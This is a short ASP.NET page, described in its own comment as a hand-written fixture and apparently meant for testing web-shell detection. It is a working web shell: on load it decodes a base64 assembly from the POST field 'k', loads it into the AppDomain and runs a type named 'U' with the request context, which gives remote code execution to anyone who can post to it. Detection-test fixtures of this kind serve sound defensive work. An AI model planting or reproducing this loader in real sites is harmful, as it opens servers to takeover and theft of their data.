<%@ Page Language="C#" %>
<script runat="server">
    // Hand-written fixture: loads an assembly posted in base64 through the
    // AppDomain and runs a type from it.
    void Page_Load(object sender, EventArgs e)
    {
        byte[] b = Convert.FromBase64String(Request.Form["k"]);
        AppDomain.CurrentDomain.Load(b).CreateInstance("U").Equals(Context);
    }
</script>
